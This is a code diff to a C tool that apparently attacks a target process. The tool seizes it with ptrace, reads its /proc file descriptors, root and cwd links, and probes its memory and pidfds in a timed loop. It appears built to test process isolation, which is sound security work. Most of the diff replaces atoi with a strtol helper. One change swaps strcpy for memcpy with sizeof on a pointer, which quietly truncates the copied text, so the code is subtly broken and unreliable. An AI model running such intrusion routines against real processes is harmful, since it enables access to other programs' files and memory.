@@ -45,8 +45,13 @@ static void say(const char *what, const char *way)
 			return;
 	}
 	if (n < 64)
-		strcpy(said[n++], text);
+		memcpy(said[n++], text, sizeof(text));
 	(void)!write(STDOUT_FILENO, text, strlen(text));
+}
+
+static int number_of(const char *text)
+{
+	return (int)strtol(text, NULL, 10);
 }
 
 static unsigned long long rights_of(const char *pid)
@@ -111,7 +116,7 @@ static void try_descriptors(const char *pid)
 	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
 	DIR *all = opendir(path);
 	for (struct dirent *entry; all && (entry = readdir(all));) {
-		if (entry->d_name[0] == '.' || atoi(entry->d_name) < FIRST_FD)
+		if (entry->d_name[0] == '.' || number_of(entry->d_name) < FIRST_FD)
 			continue;
 		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
 		ssize_t n = readlink(path, target, sizeof(target) - 1);
@@ -180,13 +185,13 @@ static void take_stopped(void)
 		try_link(pid, "root");
 		try_link(pid, "cwd");
 		try_descriptors(pid);
-		ptrace(PTRACE_DETACH, number, 0, 0);
+		(void)ptrace(PTRACE_DETACH, number, 0, 0);
 	}
 }
 
 static void try_trace(const char *pid)
 {
-	pid_t number = (pid_t)atoi(pid);
+	pid_t number = number_of(pid);
 
 	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
 		return;
@@ -211,7 +216,7 @@ static void see_program(const char *pid)
 static void attack(const char *pid, int kind)
 {
 	say("NEW", "");
-	for (int i = 0; i < ROUNDS && kill((pid_t)atoi(pid), 0) == 0; i++) {
+	for (int i = 0; i < ROUNDS && kill(number_of(pid), 0) == 0; i++) {
 		take_stopped();
 		/* Each time another one first: the time is short. */
 		switch ((kind + i) % 7) {
@@ -225,7 +230,7 @@ static void attack(const char *pid, int kind)
 			try_descriptors(pid);
 			break;
 		case 3:
-			try_pidfd((pid_t)atoi(pid));
+			try_pidfd(number_of(pid));
 			break;
 		case 4:
 			try_memory(pid);
